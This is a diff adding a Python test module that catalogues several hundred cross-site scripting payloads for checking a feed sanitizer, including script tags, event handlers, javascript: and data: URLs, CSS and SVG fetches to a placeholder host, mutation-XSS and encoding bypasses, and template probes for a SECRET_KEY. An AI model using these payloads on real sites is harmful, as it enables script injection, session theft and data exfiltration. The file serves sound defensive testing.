@@ -1,0 +1,430 @@
+r"""The attempts: what feeds have been seen to hold, or could, that makes a browser run a script or ask another host.
+
+In each, RUN stands for a call that tells the test of itself, and THERE for the address of a host that nobody may ask.
+In the tables, a "+" before an attempt says that Chromium does run it, or ask, where nothing has made it safe: the
+control holds each of them to that, so that a test which sees nothing is known to be able to see. The others need
+another browser, another time, or a hole in what makes them safe; what comes out must be harmless in any case.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Final
+
+RUN: Final = "RUN"
+THERE: Final = "THERE"
+
+
+@dataclass(frozen=True, slots=True)
+class Attempt:
+    """One attempt: its *number*, which it tells when it succeeds, its *kind*, and whether it is *live* in Chromium."""
+
+    number: int
+    kind: str
+    text: str
+    live: bool
+
+    def armed(self, there: str) -> str:
+        """The text, with its number, and *there* as the host that nobody may ask."""
+        call = f"xss({self.number})"
+        return self.text.replace(RUN, call).replace(THERE, f"{there}/{self.number}")
+
+    def __str__(self) -> str:
+        return f"{self.number} ({self.kind}): {self.text!r}"
+
+
+HTML: Final[dict[str, tuple[str, ...]]] = {
+    "script": (
+        "+<script>RUN</script>",
+        "+<SCRIPT>RUN</SCRIPT>",
+        "+<script\n>RUN</script\n>",
+        "+<script/x>RUN</script>",
+        "+<script src=//THERE></script>",
+        "+<script type=module>RUN</script>",
+        "+<script\x0c>RUN</script>",
+        "<scr<script>ipt>RUN</scr</script>ipt>",
+        "<<script>RUN//<</script>",
+        "+<script>/*<!--*/RUN//--></script>",
+        '+<script src="data:text/javascript,RUN"></script>',
+        "+<b><script>RUN</script></b>",
+        "+<table><tr><td><script>RUN</script></table>",
+        "<script xmlns='http://www.w3.org/1999/xhtml' x:href='data:,RUN' xmlns:x='http://www.w3.org/1999/xlink'/>",
+        "+<link rel=stylesheet href=//THERE>",
+        "+<link rel=preload as=script href=//THERE>",
+        "+<link rel=prefetch href=//THERE>",
+        "<link rel=import href=//THERE>",
+    ),
+    "handler": (
+        "+<img src=x onerror=RUN>",
+        "+<img src=x OnErRoR=RUN>",
+        "+<img src=x onerror = 'RUN' >",
+        '+<img src="x" onerror="RUN">',
+        "+<img src=x/ onerror=RUN//",
+        '+<img/src="x"/onerror="RUN">',
+        "+<img src=x\tonerror\n=\rRUN\x0c>",
+        "+<img src=x a='>' onerror=RUN>",
+        '+<img src=x alt="a" onerror=RUN b="\'>">',
+        "+<img src=x onerror=&#120;ss&#x28;NUMBER&rpar;>",
+        "+<img \" ' src=x onerror=RUN>",
+        '+<img """><img src=x onerror=RUN>">',
+        "+<image src=x onerror=RUN>",
+        "+<body onload=RUN>",
+        "+<audio src=x onerror=RUN>",
+        "+<video><source onerror=RUN src=x></video>",
+        "+<video poster=x onloadstart=RUN src=x></video>",
+        "+<details open ontoggle=RUN><summary>a</summary></details>",
+        "+<input autofocus onfocus=RUN>",
+        "+<p onclick=RUN tabindex=0 onfocus=RUN onmouseover=RUN>hover</p>",
+        "+<a href=# onclick=RUN onmouseenter=RUN>a</a>",
+        "+<div style='width:100px' onpointerenter=RUN onpointerover=RUN>a</div>",
+        "+<b onmouseover=RUN onbeforecopy=RUN oncopy=RUN>a</b>",
+        "+<svg onload=RUN>",
+        "+<style onload=RUN></style>",
+        "<marquee onstart=RUN>a</marquee>",
+        "+<iframe onload=RUN></iframe>",
+        "+<object data=x onerror=RUN></object>",
+        "<img lowsrc=x dynsrc=x onerror=RUN>",
+        "+<q x='\" onmouseover=\"RUN' onmouseover=RUN>a</q>",
+        "+<table background=x onmouseover=RUN><td>a</table>",
+        "+<time onclick=RUN datetime=2026>a</time>",
+    ),
+    "address": (
+        "+<a href=javascript:RUN>a</a>",
+        "+<a href='JaVaScRiPt:RUN'>a</a>",
+        "+<a href='java\nscript:RUN'>a</a>",
+        "+<a href='java\tscript:RUN'>a</a>",
+        "+<a href=' \x01\x02javascript:RUN'>a</a>",
+        "+<a href='&#106;avascript:RUN'>a</a>",
+        "+<a href='&#0000106&#0000097vascript:RUN'>a</a>",
+        "+<a href='&#x6A&#x61vascript:RUN'>a</a>",
+        "+<a href='javascript&colon;RUN'>a</a>",
+        "+<a href='java&Tab;script&NewLine;:RUN'>a</a>",
+        "+<a href='javascript://example.org/%0aRUN'>a</a>",
+        "+<a href='javascript:/*https://example.org/*/RUN'>a</a>",
+        "<a href='javascript\x00:RUN'>a</a>",
+        "<a href='jav\x00ascript:RUN'>a</a>",
+        "<a href='&amp;#106;avascript:RUN'>a</a>",
+        "<a href='java%73cript:RUN'>a</a>",
+        "<a href='vbscript:RUN'>a</a>",
+        "<a href='livescript:RUN'>a</a>",
+        "<a href='data:text/html,<script>RUN</script>'>a</a>",
+        "<a href='data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4='>a</a>",
+        "<a href='view-source:javascript:RUN'>a</a>",
+        "<a href='feed:javascript:RUN'>a</a>",
+        "<a href='blob:https://example.org/RUN'>a</a>",
+        "<a href='filesystem:https://example.org/RUN'>a</a>",
+        "<a href='\u3000javascript:RUN'>a</a>",
+        "<a href='\u2028javascript:RUN'>a</a>",
+        "<a href='javascript\u2236RUN'>a</a>",
+        "+<a target=_self href=javascript:RUN><b>a</b></a>",
+        "+<area href=javascript:RUN>",
+        "+<map name=m><area href=javascript:RUN shape=rect coords=0,0,9,9></map><img usemap=#m src=x>",
+        "+<iframe src=javascript:RUN></iframe>",
+        "+<iframe src='data:text/html,<script>RUN</script>'></iframe>",
+        "+<iframe srcdoc='&lt;script&gt;RUN&lt;/script&gt;'></iframe>",
+        "+<iframe src=//THERE></iframe>",
+        "+<frameset><frame src=javascript:RUN></frameset>",
+        "<embed src=javascript:RUN>",
+        "+<embed src=//THERE>",
+        "+<object data=//THERE></object>",
+        "+<object data='data:text/html,<script>RUN</script>'></object>",
+        "<object type=text/html data='javascript:RUN'></object>",
+        "<applet code=javascript:RUN archive=//THERE></applet>",
+        "<img src=javascript:RUN>",
+        "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22/>'>",
+        "<img srcset='javascript:RUN 1x, data:text/html,RUN 2x'>",
+        "<img srcset=',javascript:RUN,'>",
+        "<picture><source srcset='javascript:RUN 1x'><img></picture>",
+        "<video poster=javascript:RUN><source src=javascript:RUN></video>",
+        "<audio src=javascript:RUN controls></audio>",
+        "<track src=javascript:RUN default>",
+        "<blockquote cite=javascript:RUN>a</blockquote><q cite=javascript:RUN>a</q>",
+        "<del cite=javascript:RUN>a</del><ins cite='data:text/html,RUN'>a</ins>",
+        "<img longdesc=javascript:RUN usemap=javascript:RUN>",
+        "<table background=javascript:RUN><td background=javascript:RUN></table>",
+        "<body background=javascript:RUN>",
+        "<bgsound src=javascript:RUN>",
+        "<head profile=javascript:RUN>",
+        "<html manifest=//THERE>",
+        "<a href=https://example.org ping=//THERE>a</a>",
+        "<base href=javascript:RUN//><a href=/a>a</a>",
+        "+<base href=//THERE/><script src=a></script>",
+    ),
+    "form": (
+        "+<form action=javascript:RUN><input type=submit></form>",
+        "+<form><button formaction=javascript:RUN>a</button></form>",
+        "+<form id=f></form><button form=f formaction=javascript:RUN>a</button>",
+        "+<form><input type=image src=x formaction=javascript:RUN></form>",
+        "+<isindex type=image src=x onerror=RUN><input type=image src=x onerror=RUN>",
+        "+<button onclick=RUN>a</button>",
+        "+<select onfocus=RUN autofocus></select>",
+        "+<textarea onfocus=RUN autofocus></textarea>",
+        "<keygen autofocus onfocus=RUN>",
+    ),
+    "meta": (
+        "+<meta http-equiv=refresh content='0;url=//THERE'>",
+        "<meta http-equiv=refresh content='0;javascript:RUN'>",
+        "<meta http-equiv=set-cookie content=a=b>",
+        "<meta http-equiv=content-security-policy content='script-src *'>",
+        "<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-",
+        "<?xml-stylesheet href='javascript:RUN'?>",
+        "<?import namespace=a implementation=//THERE>",
+        "<!ENTITY a '<script>RUN</script>'>&a;",
+        "<!--[if gte IE 4]><script>RUN</script><![endif]-->",
+        "<![CDATA[<script>RUN</script>]]>",
+        "<xml id=x><script>RUN</script></xml>",
+    ),
+    "css": (
+        "+<style>@import '//THERE';</style>",
+        "+<style>body{background:url(//THERE)}</style>",
+        "+<p style='background:url(//THERE)'>a</p>",
+        "+<p style='background-image:image-set(\"//THERE\" 1x)'>a</p>",
+        "+<p style='list-style:url(//THERE);display:list-item'>a</p>",
+        "+<p style='background:u\\72l(//THERE)'>a</p>",
+        "+<p style='text-align:left;background:url(&#47;&#47;THERE)'>a</p>",
+        "+<p style='/**/background:/**/url(//THERE)'>a</p>",
+        "+<p style='cursor:url(//THERE),auto;content:url(//THERE)'>a</p>",
+        "<p style='border-image:url(//THERE) 1;border:1px solid'>a</p>",
+        "+<p style=\"mask-image:url('//THERE')\">a</p>",
+        "<p style='width:expression(RUN)'>a</p>",
+        "<p style='xss:expr/*a*/ession(RUN)'>a</p>",
+        "<p style='behavior:url(//THERE)'>a</p>",
+        "<p style='-moz-binding:url(//THERE#a)'>a</p>",
+        "<p style='text-align:expression(RUN)'>a</p>",
+        "<p style='background:url(javascript:RUN)'>a</p>",
+        "<p style='font-weight:bold\\;background:url(//THERE)'>a</p>",
+        "<p style='--a:url(//THERE);text-decoration:var(--a)'>a</p>",
+        "<font style='font-family:\"</style><script>RUN</script>\"'>a</font>",
+    ),
+    "svg": (
+        "+<svg><script>RUN</script></svg>",
+        "+<svg><script>&#120;ss(NUMBER)</script></svg>",
+        "+<svg><script href=data:text/javascript,RUN /></svg>",
+        "+<svg><script xlink:href=//THERE /></svg>",
+        "+<svg><a xlink:href=javascript:RUN><text y=20>a</text></a></svg>",
+        "+<svg><a href=javascript:RUN><rect width=99 height=99 /></a></svg>",
+        "+<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>a</text></a></svg>",
+        "+<svg><a><set attributeName=href to=javascript:RUN /><text y=20>a</text></a></svg>",
+        "+<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
+        "+<svg><set onbegin=RUN attributename=x></svg>",
+        "+<svg><image href=x onerror=RUN /></svg>",
+        "+<svg><image href=//THERE /></svg>",
+        "+<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
+        "+<svg><foreignObject><iframe src=javascript:RUN></iframe></foreignObject></svg>",
+        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=RUN />#x' />",
+        "+<svg><style>@import '//THERE';</style></svg>",
+        "+<svg><style><img src=x onerror=RUN></style></svg>",
+        "+<svg/onload=RUN//",
+        "+<svg><desc><img src=x onerror=RUN></desc></svg>",
+        "+<svg><title><img src=x onerror=RUN></title></svg>",
+        "<svg><discard onbegin=RUN>",
+        "+<svg><handler type=text/javascript>RUN</handler><g onload=RUN></g></svg><svg onload=RUN>",
+        "<svg><filter><feImage href=//THERE /></filter></svg>",
+        "+<svg></p><style><a id='</style><img src=x onerror=RUN>'>",
+    ),
+    "mathml": (
+        "<math href=javascript:RUN>a</math>",
+        "<math><mi xlink:href=javascript:RUN>a</mi></math>",
+        "<math><maction actiontype=statusline xlink:href=javascript:RUN>a</maction></math>",
+        "+<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>",
+        "+<math><mtext><img src=x onerror=RUN></mtext></math>",
+        "+<math><style><img src=x onerror=RUN></style></math>",
+        "<math><mglyph src=javascript:RUN></math>",
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>",
+        "<math><mtext><table><mglyph><style><math></table><img id='</style><img src=x onerror=RUN>'>",
+        "+<math></p><style><!--</style><img src=x onerror=RUN>--></style>",
+    ),
+    "unclosed": (
+        "<img src=x onerror=RUN",
+        "+<img src=x onerror='RUN'",
+        "<script>RUN",
+        "<script>RUN</script",
+        "<a href='javascript:RUN",
+        "+<a href=javascript:RUN>a",
+        "+<p><b><i><u><img src=x onerror=RUN>",
+        "+</p></div></article></main></body></html><script>RUN</script>",
+        "+</article></section></div><img src=x onerror=RUN><div><section>",
+        "+--><script>RUN</script><!--",
+        "<!--><script>RUN</script>",
+        "+<!--><img src=x onerror=RUN>-->",
+        "+<!-- --!><img src=x onerror=RUN>",
+        "+<!---><img src=x onerror=RUN>",
+        "+</script><script>RUN</script>",
+        "+</style></title></textarea></noscript></iframe></xmp><img src=x onerror=RUN>",
+        "<div id='a' title='",
+        "<plaintext><script>RUN</script>",
+        "<textarea><script>RUN</script>",
+    ),
+    "null": (
+        "<scr\x00ipt>RUN</scr\x00ipt>",
+        "<script\x00>RUN</script>",
+        "+<img src=x o\x00nerror=RUN onerror=RUN>",
+        "+<img src=x onerror\x00=RUN\x00 onerror=RUN>",
+        "\x00<\x00s\x00c\x00r\x00i\x00p\x00t\x00>RUN<\x00/\x00s\x00c\x00r\x00i\x00p\x00t\x00>",
+        "+<img\x0bsrc=x onerror=RUN><img src=x onerror=RUN>",
+        "<\x00img src=x onerror=RUN>",
+        "<a href='\x00javascript:RUN'>a</a>",
+        "\ufeff<script>RUN\ufeff</script\ufeff>",
+        "<i\ufeffmg src=x onerror=RUN>",
+        "<\u017fcript>RUN</\u017fcript>",
+        "<\u0131mg src=x onerror=RUN>",
+        "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
+        "\u02bb><script\u02bc>RUN</script\u02bc>",
+    ),
+    "encoded": (
+        "&lt;script&gt;RUN&lt;/script&gt;",
+        "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
+        "&lt;img src=x onerror=RUN&gt;",
+        "<p title='&lt;/p&gt;&lt;img src=x onerror=RUN&gt;'>a</p>",
+        '<p title="&quot;&gt;&lt;img src=x onerror=RUN&gt;">a</p>',
+        "<p title='\"><img src=x onerror=RUN>'>a</p>",
+        "<p lang='\" onmouseover=\"RUN'>a</p>",
+        "<img alt='\" onerror=\"RUN' src=x>",
+        "<img alt='`onerror=RUN' src=x>",
+        "<a href='https://example.org/\" onmouseover=\"RUN'>a</a>",
+        "<a href='https://example.org/&quot;onmouseover=&quot;RUN'>a</a>",
+        "<a href='https://example.org/%22onmouseover=%22RUN'>a</a>",
+        "%3Cscript%3ERUN%3C/script%3E",
+        "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
+        "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
+        "<code>&lt;script&gt;RUN&lt;/script&gt;</code>",
+        "<pre>\n&lt;script&gt;RUN&lt;/script&gt;</pre>",
+    ),
+    "mutation": (
+        "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
+        "<p><noscript><style></noscript><img src=x onerror=RUN></style>",
+        "+<listing>&lt;img src=x onerror=RUN&gt;</listing><img src=x onerror=RUN>",
+        "<xmp><p title='</xmp><img src=x onerror=RUN>'>",
+        "<noembed><p title='</noembed><img src=x onerror=RUN>'>",
+        "<iframe><p title='</iframe><img src=x onerror=RUN>'>",
+        "<textarea><p title='</textarea><img src=x onerror=RUN>'>",
+        "<title><p title='</title><img src=x onerror=RUN>'>",
+        "<template><p title='</template><img src=x onerror=RUN>'>",
+        "<select><template><style><!--</style><p title='--></style></template></select><img src=x onerror=RUN>'>",
+        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
+        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x onerror=RUN>'>",
+        "<svg><p><style><g title='</style><img src=x onerror=RUN>'>",
+        "<math><p><style><g title='</style><img src=x onerror=RUN>'>",
+        "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror=RUN>'>",
+        "<math><annotation-xml encoding='text/html'><style><!--</style><p id='--><img src=x onerror=RUN>'>",
+        "<svg><desc><svg><style><p title='</style><img src=x onerror=RUN>'>",
+        "<table><svg><style><p title='</style><img src=x onerror=RUN>'></table>",
+        "<table><a href='https://example.org'><tr><td><a href='javascript:RUN'>a</table>",
+        "<b><p></b><svg><title><p title='</title><img src=x onerror=RUN>'>",
+        "<a href='https://example.org'><svg><a href='javascript:RUN'>a</a></svg></a>",
+        "<p id='a<b>'><style>*{}</style title='</p><script>RUN</script>'>",
+        "<ruby><rtc><svg><rt><style><p title='</style><img src=x onerror=RUN>'>",
+        "<dl><dt><svg><dd><style><p title='</style><img src=x onerror=RUN>'>",
+        "<img src='x' title='&quot;><script>RUN</script>' alt=`><script>RUN</script>`>",
+        "<a title='--!><img src=x onerror=RUN>'><!-- -->a</a>",
+        "<div>" * 400 + "<svg><style><p title='</style><img src=x onerror=RUN>'>",
+        "<div>" * 1200 + "<script>RUN</script>",
+        "<u>" * 300 + "<p>" * 300 + "<img src=x onerror=RUN>",
+    ),
+    "template": (
+        "<template><script>RUN</script></template>",
+        "+<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>",
+        "<slot name=x onslotchange=RUN><p slot=x>a</p></slot>",
+        "<x-y is=x-y onclick=RUN>a</x-y>",
+        "<div ng-app ng-csp>{{constructor.constructor('RUN')()}}</div>",
+        "<div v-html=\"'<img src=x onerror=RUN>'\">{{RUN}}</div>",
+        "<div x-data x-init=RUN>{% debug %}{{ settings.SECRET_KEY }}</div>",
+        "<div hx-on:click=RUN hx-get=//THERE hx-trigger=load data-hx-get=//THERE>a</div>",
+        "<a class=film data-player='javascript:RUN' data-title=a href=https://example.org>a</a>",
+        "<a data-player=//THERE class=film href=https://example.org>a</a>",
+        "<nav data-pager><a rel=next href=//THERE>a</a></nav><p data-pager-status data-days data-day=a>a</p>",
+        "<p id=content name=content class='site-header'><a id=q name=q>a</a></p>",
+        "<img name=getElementById><form name=body><input name=attributes></form><a id=defaultView>a</a>",
+    ),
+}
+"""Attempts in HTML: the content of an entry."""
+
+TEXT: Final[tuple[str, ...]] = (
+    "+<script>RUN</script>",
+    "+<img src=x onerror=RUN>",
+    "+&lt;script&gt;RUN&lt;/script&gt;<img src=x onerror=RUN>",
+    "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
+    "+a < b <img src=x onerror=RUN> & c > d",
+    '+"><script>RUN</script>',
+    "+'><img src=x onerror=RUN>",
+    '+"><svg onload=RUN>',
+    '" onmouseover="RUN" x="',
+    "' onmouseover='RUN' x='",
+    "` onmouseover=RUN x=`",
+    "a onmouseover=RUN autofocus tabindex=1 onfocus=RUN",
+    "+</title><script>RUN</script>",
+    "+</textarea></style></script><script>RUN</script>",
+    "+--><img src=x onerror=RUN><!--",
+    "]]><script>RUN</script>",
+    "{{constructor.constructor('RUN')()}}${RUN}#{RUN}<%= RUN %>",
+    "{% load x %}{{ settings.SECRET_KEY }}",
+    "';RUN;'",
+    "\\';RUN;//",
+    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
+    "\u2028RUN\u2029",
+    "javascript:RUN",
+    "<scr\x00ipt>RUN</scr\x00ipt>",
+    "\u202e<script>RUN</script>",
+    "+<!--<img src='--><img src=x onerror=RUN//'>",
+    "+<a href=javascript:RUN>a</a>",
+    "+<iframe src=//THERE></iframe>",
+    "+<style>@import'//THERE'</style>",
+)
+"""Attempts in what is text: titles, names, tags, types."""
+
+ADDRESSES: Final[tuple[str, ...]] = (
+    "+javascript:RUN",
+    "+JaVaScRiPt:RUN",
+    "+java\nscript:RUN",
+    "+java\tscript:RUN",
+    "+ \x01javascript:RUN",
+    "+javascript://example.org/%0aRUN",
+    "&#106;avascript:RUN",
+    "javascript&colon;RUN",
+    "vbscript:RUN",
+    "data:text/html,<script>RUN</script>",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
+    "blob:https://example.org/RUN",
+    "file:///etc/passwd#RUN",
+    "feed:javascript:RUN",
+    "https:javascript:RUN",
+    "//example.org\\@javascript:RUN",
+    'https://example.org/"onmouseover="RUN',
+    "https://example.org/'onmouseover='RUN",
+    'https://example.org/"><script>RUN</script>',
+    "https://example.org/'><img src=x onerror=RUN>",
+    "https://example.org/<script>RUN</script>",
+    'https://user:"><script>RUN</script>@example.org/',
+    'https://"><script>RUN</script>.example.org/',
+    "https://[javascript:RUN]/",
+    '/"><script>RUN</script>',
+    '?"onmouseover="RUN',
+    '#"><img src=x onerror=RUN>',
+)
+"""Attempts in what is an address: links, enclosures, pictures, players, ids."""
+
+
+def _numbered(first: int, kind: str, texts: tuple[str, ...]) -> list[Attempt]:
+    numbered = []
+    for number, text in enumerate(texts, first):
+        bare = text.removeprefix("+")
+        numbered.append(Attempt(number, kind, bare.replace("NUMBER", str(number)), live=bare != text))
+    return numbered
+
+
+def html_attempts() -> list[Attempt]:
+    """All of HTML, numbered from 1000."""
+    attempts: list[Attempt] = []
+    for kind, texts in HTML.items():
+        attempts += _numbered(1000 + len(attempts), kind, texts)
+    return attempts
+
+
+def text_attempts() -> list[Attempt]:
+    """All of TEXT, numbered from 2000."""
+    return _numbered(2000, "text", TEXT)
+
+
+def address_attempts() -> list[Attempt]:
+    """All of ADDRESSES, numbered from 3000."""
+    return _numbered(3000, "address", ADDRESSES)
